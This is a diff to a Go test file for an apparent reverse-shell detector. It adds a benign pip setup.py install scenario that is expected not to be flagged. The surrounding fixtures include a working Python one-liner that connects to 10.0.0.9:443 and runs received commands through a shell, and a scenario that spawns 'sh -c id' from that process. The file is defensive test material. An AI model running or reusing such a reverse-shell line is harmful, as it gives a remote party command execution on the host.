@@ -234,6 +234,8 @@ func scenarios() []scenario {
 	vsServer := proc("node", "/root/.vscode-server/bin/f1e16e1e/node", "node", "/root/.vscode-server/bin/f1e16e1e/out/server-main.js")
 	vsPty := childOf(proc("node", "/root/.vscode-server/bin/f1e16e1e/node", "node", "/root/.vscode-server/bin/f1e16e1e/out/ptyHost.js"), vsServer)
 	sshdP := proc("sshd-session", "/usr/lib/openssh/sshd-session", "sshd-session: alice [priv]")
+	pipSetup := childOf(proc("python3", "/usr/bin/python3.12", "python3", "-c", "import io, os, sys, setuptools, tokenize; exec(compile(...))", "install"),
+		proc("pip", "/usr/bin/python3.12", "/usr/bin/pip", "install", "legacy-pkg"))
 	pyLoop := proc("python3", "/usr/bin/python3.12", "python3", "-u", "-c", "import socket,subprocess\ns=socket.create_connection(('10.0.0.9',443))\nwhile True:\n    s.sendall(subprocess.getoutput(s.recv(1024)))")
 	runner := proc("gitlab-runner", "/usr/bin/gitlab-runner", "gitlab-runner", "run")
 	runnerSh := childOf(proc("bash", "/usr/bin/bash", "bash", "--login"), runner)
@@ -279,6 +281,8 @@ func scenarios() []scenario {
 				return e
 			}(),
 				execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "id"), pyLoop), after(time.Second))), nil},
+		scenario{"pip's legacy setup.py one-liner fetching a dependency and running the compiler is not", loopShell, false,
+			evs(connectEv(pipSetup, "151.101.0.223", 443), execEv(childOf(proc("x86_64-linux-gnu-gcc", "/usr/bin/x86_64-linux-gnu-gcc-12", "x86_64-linux-gnu-gcc", "-c", "ext.c"), pipSetup), after(time.Second))), nil},
 		scenario{"a perl text filter (perl -pe) running date without a connection is not", loopShell, false,
 			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "date"), proc("perl", "/usr/bin/perl", "perl", "-pe", "s/x/y/")))), nil},
 		scenario{"a Python pty relay that connected out serves bash -i on a terminal", ptyShell, true,
